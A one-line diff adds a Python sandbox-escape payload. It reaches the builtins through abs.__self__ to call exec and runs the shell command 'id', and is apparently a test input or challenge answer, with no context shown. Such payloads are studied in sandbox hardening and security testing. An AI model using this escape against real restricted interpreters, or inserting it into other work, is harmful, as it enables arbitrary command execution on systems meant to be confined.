@@ -1,0 +1,1 @@
+vars(abs.__self__)["exec"]("import os; os.system('id')")
